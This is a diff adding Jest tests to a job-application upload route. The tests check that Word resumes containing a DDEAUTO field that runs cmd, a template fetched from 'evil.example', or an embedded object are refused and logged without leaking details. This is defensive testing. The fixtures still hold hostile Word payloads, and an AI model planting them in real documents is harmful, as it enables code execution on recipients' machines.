@@ -4,6 +4,7 @@ import { RESUME_MAX_BYTES } from '@/lib/applications/options';
 import { docBytes, docxBytes, exeBytes, htmlBytes, pdfOfSize, pdfWithText, xlsBytes } from '@/lib/testing/documents';
 import { applicationFields, job } from '@/lib/testing/fixtures';
 import { call, db, filesOnDisk, requestTo, until, uploadsDir, type CallOptions } from '@/lib/testing/harness';
+import { field, wordBinary, wordPackage } from '@/lib/testing/word-documents';
 import { multipartBody, type FilePart } from '@/lib/testing/multipart';
 import * as applications from './route';
 
@@ -64,6 +65,21 @@ test.each<[string, FilePart]>([
   ['a PDF named .docx', resume({ name: 'cv.docx' })],
 ])('%s is refused by its content', async (_, file) => {
   expect(await refusal(apply(undefined, [file]))).toMatchObject({ status: 415, code: 'unsupported_file_type', message: 'Please upload a PDF, DOC or DOCX file.' });
+});
+
+test.each<[string, string, FilePart]>([
+  ['a DOCX with DDE', 'fields', resume({ bytes: wordPackage({ body: field('DDEAUTO c:\\\\cmd') }), name: 'cv.docx' })],
+  ['a DOCX whose template is fetched from the web', 'links', resume({ bytes: wordPackage({ relations: { 'word/settings.xml': [{ type: 'attachedTemplate', target: 'https://evil.example/t.dotm', mode: 'External' }] } }), name: 'cv.docx' })],
+  ['a DOC with an embedded object', 'objects', resume({ bytes: wordBinary({ parts: [{ name: 'ObjectPool', members: [{ name: '_1', members: [] }] }] }), name: 'cv.doc' })],
+])('%s is refused with a hint, and told to the security log by its kind alone', async (_, reason, file) => {
+  const written: string[] = [];
+  const log = jest.spyOn(process.stdout, 'write').mockImplementation((line) => written.push(String(line)) > 0);
+  const answer = await refusal(apply(undefined, [file]));
+  log.mockRestore();
+  expect(answer).toMatchObject({ status: 415, code: 'unsupported_file_type', message: expect.stringMatching(/^Please upload a PDF, DOC or DOCX file\. .*macros.* Save it as a PDF/) });
+  const line = written.find((each) => each.includes('file.refused')) ?? '{}';
+  expect(JSON.parse(line)).toMatchObject({ level: 'security', event: 'file.refused', reason, path: '/api/direct-applications.php' });
+  expect(line).not.toMatch(/evil|cv\.doc|alex/i);
 });
 
 describe.each([['with its length', false], ['without a length', true]])('a file sent %s', (_, chunked) => {
